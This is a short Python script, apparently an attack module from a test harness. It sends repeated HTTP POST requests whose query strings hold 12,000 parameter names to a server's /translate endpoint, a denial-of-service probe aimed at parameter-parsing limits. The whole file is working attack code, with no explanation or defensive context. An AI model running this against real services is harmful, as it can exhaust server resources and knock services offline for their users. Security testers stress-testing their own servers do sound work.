"""An address of thousands of fields, sent in one piece."""

import socket

SECONDS, MEGABYTES = 10, 100


def attack(url):
    host, port = url.removeprefix("http://").split(":")
    names = "&".join(f"{i:x}" for i in range(12_000))
    head = f"POST /translate?{names} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
    for _ in range(5):
        with socket.create_connection((host, int(port)), timeout=30) as one:
            one.sendall(head.encode())
            one.recv(1000)
